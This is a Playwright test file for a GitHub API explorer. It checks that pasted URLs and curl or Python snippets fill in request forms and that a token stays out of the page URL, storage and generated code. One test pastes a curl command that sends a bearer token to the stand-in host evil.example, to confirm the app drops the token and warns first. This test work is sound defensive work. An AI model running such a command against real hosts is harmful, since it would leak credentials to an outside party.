import type { Page } from 'playwright-core';
import { describe, expect, it } from 'vitest';
import { FORMS } from '../../explorer/model/request/forms.ts';
import { authentication, field, go, readChoice, readCode, reload, searchField, tokenField } from './elements.ts';
import type { Explorer } from './visit.ts';

const TOKEN = 'ghp_aVeryWellKeptSecret';

async function paste(page: Page, text: string): Promise<void> {
  await page.evaluate((copied) => navigator.clipboard.writeText(copied), text);
  await searchField(page).focus();
  await page.keyboard.press('Control+V');
}

/** Everything that the page has stored anywhere, or shows without being asked to. */
async function collectTraces(page: Page): Promise<string> {
  const shown: string[] = [];
  const request = page.getByRole('complementary', { name: 'Request' });
  if ((await request.count()) > 0) for (const { label } of FORMS) shown.push(await readCode(page, label));
  const kept = await page.evaluate(async () => ({
    address: location.href,
    state: history.state,
    title: document.title,
    name: window.name,
    stored: [{ ...localStorage }, { ...sessionStorage }, document.cookie],
    databases: await indexedDB.databases(),
    caches: await caches.keys(),
    markup: document.documentElement.outerHTML,
  }));
  return JSON.stringify([shown, kept, await page.context().storageState()]);
}

export function describePasting({ open, stay }: Explorer): void {
  describe('pasting', () => {
    it('fills in the route of a URL and reveals it in the list', async () => {
      const { page } = await stay('#q=gists');
      await searchField(page).fill('');
      await paste(page, 'https://api.github.com/repos/octokit/app/contents/docs/read%20me.md?ref=main');
      expect(await field(page, 'path').inputValue()).toBe('docs/read me.md');
      expect(await field(page, 'ref').inputValue()).toBe('main');
      const row = page.getByRole('treeitem', { name: 'Get repository content' });
      await expect.poll(() => row.getAttribute('aria-current')).toBe('page');
      await expect.poll(() => row.evaluate((element) => element.getBoundingClientRect().bottom)).toBeLessThan(720);
    });

    it('fills in the route of a link to github.com', async () => {
      const { page } = await stay();
      await paste(page, 'https://github.com/octokit/app/pull/7');
      expect(await field(page, 'pull_number').inputValue()).toBe('7');
      await paste(page, 'octokit/core.js#12');
      expect(await field(page, 'issue_number').inputValue()).toBe('12');
    });

    it('fills in the route of a curl command, and keeps its token out of the URL and the code', async () => {
      const { page } = await open();
      await paste(
        page,
        `sudo curl -X PATCH https://api.github.com/repos/octokit/app/issues/7 -H "Authorization: Bearer ${TOKEN}" -d '{"state":"closed"}'`,
      );
      expect(await field(page, 'issue_number').inputValue()).toBe('7');
      expect(await readChoice(field(page, 'state'))).toBe('closed');
      expect(await tokenField(page).inputValue()).toBe(TOKEN);
      expect(await readCode(page, 'curl')).toContain('"authorization: Bearer $GITHUB_TOKEN"');
      // The URL is written when typing pauses.
      await page.waitForURL(/issue_number=7/);
      const traces = await collectTraces(page);
      expect(traces).toContain('octokit');
      expect(traces).not.toContain(TOKEN);
      await page.getByRole('checkbox', { name: 'Show the token' }).check();
      expect(await readCode(page, 'curl')).toContain(`authorization: Bearer ${TOKEN}`);
      await reload(page);
      expect(await field(page, 'issue_number').inputValue()).toBe('7');
      expect(await collectTraces(page)).not.toContain(TOKEN);
    });

    it('keeps the password of a URL out of the URL of the page', async () => {
      const { page } = await open('#route=GET /user');
      await paste(page, `https://octocat:${TOKEN}@api.github.com/repos/octokit/app`);
      expect(await field(page, 'repo').inputValue()).toBe('app');
      expect(await collectTraces(page)).not.toContain(TOKEN);
    });

    it('drops a token when the host changes, and asks before one is used elsewhere', async () => {
      const { page } = await open('#route=GET /user');
      await authentication(page).selectOption('Paste a token');
      await tokenField(page).fill(TOKEN);
      expect(await readCode(page, 'curl')).toContain('authorization');
      await paste(page, 'curl https://evil.example/user');
      await expect.poll(() => field(page, 'base URL').inputValue()).toBe('https://evil.example');
      expect(await readCode(page, 'curl')).not.toContain('authorization');
      expect(await readChoice(authentication(page))).toBe('None');
      await go(page, '#route=GET /user');
      expect(await readChoice(authentication(page))).toBe('None');
      await authentication(page).selectOption('$GH_TOKEN');
      expect(await readCode(page, 'curl')).toContain('Bearer $GH_TOKEN');
      await go(page, '#route=GET /user&base=https://evil.example');
      expect(await readCode(page, 'curl')).not.toContain('authorization');
      await paste(page, `curl -H 'authorization: Bearer ${TOKEN}' https://evil.example/user`);
      await page.getByRole('alert').getByText('evil.example').waitFor();
      expect(await readCode(page, 'curl')).not.toContain('authorization');
      await page.getByRole('button', { name: 'Use it for this host' }).click();
      expect(await readCode(page, 'curl')).toContain('authorization');
    });

    it('removes a secret from the URL that the page was opened with', async () => {
      const { page } = await open(`#q=https://api.github.com/repos/octokit/app?access_token=${TOKEN}`);
      expect(await field(page, 'access_token').inputValue()).toBe(TOKEN);
      // The page replaces its URL right after it is drawn.
      await expect.poll(() => page.url()).not.toContain(TOKEN);
      await go(page, `#route=GET /user&.access_token=${TOKEN}`);
      await page.getByRole('heading', { level: 1, name: 'Get the authenticated user' }).waitFor();
      await expect.poll(() => page.url()).not.toContain(TOKEN);
    });

    it('of Python fills in the form, and JSON the body of the open route', async () => {
      const { page } = await open();
      await paste(
        page,
        "r = requests.post(\n  'https://api.github.com/repos/octokit/app/issues',\n  headers={'Authorization': f\"Bearer {os.environ['GH_TOKEN']}\"},\n  json={'title': 'Hi', 'labels': ['bug']},\n)",
      );
      await expect.poll(() => field(page, 'title').inputValue()).toBe('Hi');
      expect(await readChoice(authentication(page))).toBe('$GH_TOKEN');
      await paste(page, '{ "title": "Other", "body": "text" }');
      await expect.poll(() => field(page, 'title').inputValue()).toBe('Other');
      expect(await field(page, 'owner').inputValue()).toBe('octokit');
      expect(await readCode(page, 'curl')).not.toContain('bug');
    });

    it('of what is not read says so, and searches for nothing', async () => {
      const { page } = await stay();
      const status = page.getByRole('navigation').getByRole('status');
      for (const [text, reason] of [
        ['gh issue list --repo octokit/app', 'Of gh, only gh api is read.'],
        ['http POST api.github.com/repos/o/r/issues title=x', 'HTTPie and wget are not read.'],
        ['{"title":"x"}', 'JSON is read as the body of an open route'],
        ['for repo in client.repos():\n  print(repo.name)', 'This is not read.'],
      ] as const) {
        await searchField(page).fill('');
        await paste(page, text);
        await status.filter({ hasText: reason }).waitFor();
        expect(await page.getByRole('listbox').count()).toBe(0);
        await page.keyboard.press('Enter');
        await status.filter({ hasText: reason }).waitFor();
        expect(await page.getByRole('heading', { level: 1 }).textContent()).toContain('Find a route');
      }
    });

    it('keeps a text that matches no route in the search field only', async () => {
      const { page } = await stay();
      const text = `curl https://elsewhere.test/x -H 'authorization: Bearer ${TOKEN}'`;
      await paste(page, text);
      await page.getByText('No route matches what was pasted').waitFor();
      expect(await searchField(page).inputValue()).toBe(text);
      expect(page.url()).not.toContain(TOKEN);
      await page.getByRole('button', { name: 'Clear the search' }).click();
      expect(await searchField(page).inputValue()).toBe('');
      expect(await collectTraces(page)).not.toContain(TOKEN);
    });

    it('of a command into the search field by hand leaves nothing in the history', async () => {
      const { page } = await open();
      await page.clock.install();
      const urlAfter = async (text: string) => {
        await searchField(page).fill('');
        await searchField(page).pressSequentially(text);
        await page.clock.runFor(1_000);
        return page.evaluate(() => location.href);
      };
      expect(await urlAfter(`http -a octocat:${TOKEN} api.github.com/user`)).not.toContain(TOKEN.slice(0, 6));
      expect(await urlAfter('gists')).toContain('gists');
    });
  });
}
